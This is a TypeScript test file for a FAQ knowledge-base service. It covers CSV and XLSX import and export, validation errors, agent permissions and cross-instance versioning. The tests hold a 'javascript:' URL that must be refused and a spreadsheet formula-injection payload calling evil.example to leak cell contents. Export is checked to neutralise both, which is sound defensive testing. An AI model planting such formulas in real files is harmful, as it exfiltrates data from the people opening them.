import type { TFaq, TFaqImportResult } from '@peakdesk/contracts';
import { queryRows, sql } from '@peakdesk/db';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  api,
  createTenant,
  login,
  startTestServer,
  type Tenant,
  type TestServer,
} from '../../../test/harness.ts';

let server: TestServer;
let t: Tenant;
let admin: string;
let agent: string;
beforeAll(async () => {
  server = await startTestServer();
  t = await createTenant(server, { agents: 1 });
  admin = await login(server, t.admin.email);
  agent = await login(server, t.agents[0]!.email);
});
afterAll(async () => {
  await server?.stop();
});

const CSV = `id,category,question,answer,similar_questions
p01,价格,双11买贵了可以保价吗,亲，本店支持15天价保，下单后15天内降价可申请退差价。,保价吗|降价了能退差价吗|买贵了怎么办
p02,物流,你们发什么快递,亲，默认中通/圆通，大件京东物流。,发什么快递|能发顺丰吗
`;

const importCsv = (body: string, query = '') =>
  api<TFaqImportResult & { code?: string; message?: string; field?: string }>(
    server,
    'POST',
    `/api/faqs/import?format=csv&filename=faq.csv${query}`,
    { token: admin, raw: Buffer.from(body), headers: { 'content-type': 'text/csv' } },
  );

describe('knowledge base', () => {
  it('imports a CSV, lists it, and the matcher answers from it at once', async () => {
    const res = await importCsv(CSV);
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ total: 2, created: 2, updated: 0 });
    const list = await api<TFaq[]>(server, 'GET', '/api/faqs', { token: agent });
    expect(list.body.map((f) => f.id)).toEqual(['p01', 'p02']);
    expect(list.body[0]!.similarQuestions).toContain('保价吗');
    const answer = await server.services.knowledge.answer(t.org.id, '亲，保价吗');
    expect(answer.faq?.id).toBe('p01');
  });

  it('rejects a bad row naming line and field, and writes nothing', async () => {
    const before = await api<TFaq[]>(server, 'GET', '/api/faqs', { token: admin });
    const bad = `${CSV}p03,售后,怎么退货,,
p04,售后,怎么换货,联系客服,
`;
    const res = await importCsv(bad.replace('p01,价格', 'p09,价格'));
    expect(res.status).toBe(400);
    expect(res.body.message).toBe('faq.csv:4: field "answer" is empty');
    expect(res.body.field).toBe('answer');
    const after = await api<TFaq[]>(server, 'GET', '/api/faqs', { token: admin });
    expect(after.body.map((f) => f.id)).toEqual(before.body.map((f) => f.id));
  });

  it('reports a missing column and a repeated id', async () => {
    const missing = await importCsv('id,question,answer\nx,q,a\n');
    expect(missing.body.message).toBe(
      'faq.csv:1: field "category" is missing from the header row (it has: id, question, answer)',
    );
    const repeated = await importCsv(`${CSV}p01,价格,again,again,\n`);
    expect(repeated.body.message).toBe('faq.csv:4: field "id" repeats "p01" of line 2');
  });

  it('refuses NUL bytes and non-UTF-8 files naming line and field (400, never 500)', async () => {
    const nul = await importCsv(`${CSV}p05,售后,怎么退,退\u0000款,\n`);
    expect(nul.status).toBe(400);
    expect(nul.body.field).toBe('answer');
    expect(nul.body.message).toMatch(/^faq\.csv:4: field "answer" contains a NUL character/);
    // 价格 in GBK (Excel's "CSV" on a Chinese Windows).
    const gbk = Buffer.concat([
      Buffer.from('id,category,question,answer,similar_questions\nq1,'),
      Buffer.from([0xbc, 0xdb, 0xb8, 0xf1]),
      Buffer.from(',问,答,\n'),
    ]);
    const res = await api<{ message: string; field: string }>(
      server,
      'POST',
      '/api/faqs/import?format=csv&filename=gbk.csv',
      { token: admin, raw: gbk, headers: { 'content-type': 'text/csv' } },
    );
    expect(res.status).toBe(400);
    expect(res.body).toMatchObject({
      field: 'category',
      message: 'gbk.csv:2: field "category" is not valid UTF-8 text (save the file as CSV UTF-8)',
    });
  });

  it('round-trips through XLSX export and import, updating existing ids', async () => {
    const exported = await fetch(`${server.url}/api/faqs/export?format=xlsx`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    expect(exported.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await exported.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    expect(sheet.getRow(1).getCell(1).text).toBe('id');
    sheet.getRow(2).getCell(4).value = '亲，本店支持30天价保。';
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const res = await api<TFaqImportResult>(server, 'POST', '/api/faqs/import?format=xlsx', {
      token: admin,
      raw: buffer,
      headers: { 'content-type': 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet' },
    });
    expect(res.body).toEqual({ total: 2, created: 0, updated: 2 });
    const faq = await api<TFaq>(server, 'GET', '/api/faqs/p01', { token: admin });
    expect(faq.body.answer).toBe('亲，本店支持30天价保。');
    expect((await server.services.knowledge.answer(t.org.id, '保价吗')).faq?.answer).toBe(
      '亲，本店支持30天价保。',
    );

    const csv = await fetch(`${server.url}/api/faqs/export?format=csv`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    const text = await csv.text();
    expect(text.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe(
      'id,category,question,answer,similar_questions,enabled,valid_from,valid_to,images,links',
    );
  });

  it('XLSX errors name the row', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('FAQ');
    sheet.addRow(['id', 'category', 'question', 'answer', 'similar_questions']);
    sheet.addRow(['x1', '', '问题', '答案', '']);
    sheet.addRow(['x2', '', '', '答案', '']);
    const res = await api<{ message: string }>(
      server,
      'POST',
      '/api/faqs/import?format=xlsx&filename=kb.xlsx',
      {
        token: admin,
        raw: Buffer.from(await workbook.xlsx.writeBuffer()),
        headers: { 'content-type': 'application/octet-stream' },
      },
    );
    expect(res.status).toBe(400);
    expect(res.body.message).toBe('kb.xlsx:3: field "question" is empty');
  });

  it('edits: disabled and out-of-window entries are not answered; agents cannot edit', async () => {
    expect(
      (await api(server, 'PATCH', '/api/faqs/p02', { token: agent, body: { enabled: false } })).status,
    ).toBe(403);
    expect((await server.services.knowledge.answer(t.org.id, '能发顺丰吗')).faq?.id).toBe('p02');
    await api(server, 'PATCH', '/api/faqs/p02', { token: admin, body: { enabled: false } });
    expect((await server.services.knowledge.answer(t.org.id, '能发顺丰吗')).faq).toBeNull();
    await api(server, 'PATCH', '/api/faqs/p02', {
      token: admin,
      body: { enabled: true, validFrom: '2099-11-01T00:00:00+08:00', validTo: '2099-11-12T00:00:00+08:00' },
    });
    expect((await server.services.knowledge.answer(t.org.id, '能发顺丰吗')).faq).toBeNull();
    await api(server, 'PATCH', '/api/faqs/p02', { token: admin, body: { validFrom: null, validTo: null } });
    expect((await server.services.knowledge.answer(t.org.id, '能发顺丰吗')).faq?.id).toBe('p02');
  });

  it('creates an FAQ with links and a linked team script; unsafe URLs are refused', async () => {
    const script = await api<{ id: string }>(server, 'POST', '/api/quick-replies', {
      token: admin,
      body: {
        scope: 'team',
        category: 'promotion',
        shortcut: 'bj',
        title: '保价话术',
        body: '亲，{buyer_name}，价保15天哦',
      },
    });
    const bad = await api<{ field: string }>(server, 'POST', '/api/faqs', {
      token: admin,
      body: { question: '活动规则', answer: '见链接', links: [{ title: 'x', url: 'javascript:alert(1)' }] },
    });
    expect(bad.status).toBe(400);
    const created = await api<TFaq>(server, 'POST', '/api/faqs', {
      token: admin,
      body: {
        id: 'p03',
        category: '活动',
        question: '双11活动规则在哪看',
        answer: '活动规则请看活动页',
        links: [{ title: '活动页', url: 'https://example.com/d11' }],
        quickReplyId: script.body.id,
      },
    });
    expect(created.status).toBe(201);
    expect(created.body.quickReplyId).toBe(script.body.id);
    const dup = await api(server, 'POST', '/api/faqs', {
      token: admin,
      body: { id: 'p03', question: 'q', answer: 'a' },
    });
    expect(dup.status).toBe(409);
  });

  it('another instance sees changes through the knowledge version', async () => {
    // A second service over the same database stands in for another server instance.
    const { createKnowledgeService } = await import('./knowledge.service.ts');
    const other = createKnowledgeService({
      db: server.db.db,
      audit: server.services.audit,
      accounts: server.services.accounts.repo,
      hasQuickReply: async () => true,
    });
    expect((await other.answer(t.org.id, '保价吗')).faq?.id).toBe('p01');
    await api(server, 'DELETE', '/api/faqs/p01', { token: admin });
    await new Promise((r) => setTimeout(r, 1100));
    expect((await other.answer(t.org.id, '保价吗')).faq).toBeNull();
    const [v] = await queryRows<{ version: string }>(
      server.db.db,
      sql`SELECT version FROM knowledge_versions WHERE org_id = ${t.org.id}`,
    );
    expect(Number(v?.version)).toBeGreaterThan(3);
  });
});

describe('FAQ export and formula injection', () => {
  const evil = {
    id: 'inj1',
    category: '@分类',
    question: '+保价怎么算',
    answer: '=HYPERLINK("http://evil.example/?"&A2,"点我退款")',
    similarQuestions: ['-多少钱'],
  };

  it('exports formula-like text with a leading quote in CSV and XLSX, and imports it back unchanged', async () => {
    const created = await api(server, 'POST', '/api/faqs', { token: admin, body: evil });
    expect(created.status).toBe(201);

    const csv = await (
      await fetch(`${server.url}/api/faqs/export?format=csv`, {
        headers: { authorization: `Bearer ${admin}` },
      })
    ).text();
    const line = csv.split('\r\n').find((l) => l.startsWith('inj1,'));
    expect(line).toBe(
      `inj1,'@分类,'+保价怎么算,"'=HYPERLINK(""http://evil.example/?""&A2,""点我退款"")",'-多少钱,true,,,,`,
    );

    const xlsx = await fetch(`${server.url}/api/faqs/export?format=xlsx`, {
      headers: { authorization: `Bearer ${admin}` },
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await xlsx.arrayBuffer());
    const sheet = workbook.worksheets[0]!;
    let row: ExcelJS.Row | undefined;
    sheet.eachRow((r) => {
      if (r.getCell(1).value === 'inj1') row = r;
    });
    expect(row?.getCell(4).value).toBe(`'${evil.answer}`);
    expect(row?.getCell(4).formula).toBeUndefined();
    expect([2, 3, 5].map((c) => row?.getCell(c).value)).toEqual(["'@分类", "'+保价怎么算", "'-多少钱"]);

    // Re-importing the export changes nothing: the quote is ours and is taken off again.
    const res = await importCsv(csv);
    expect(res.status).toBe(200);
    const back = await api<TFaq>(server, 'GET', '/api/faqs/inj1', { token: admin });
    expect(back.body).toMatchObject(evil);
    await api(server, 'DELETE', '/api/faqs/inj1', { token: admin });
  });
});
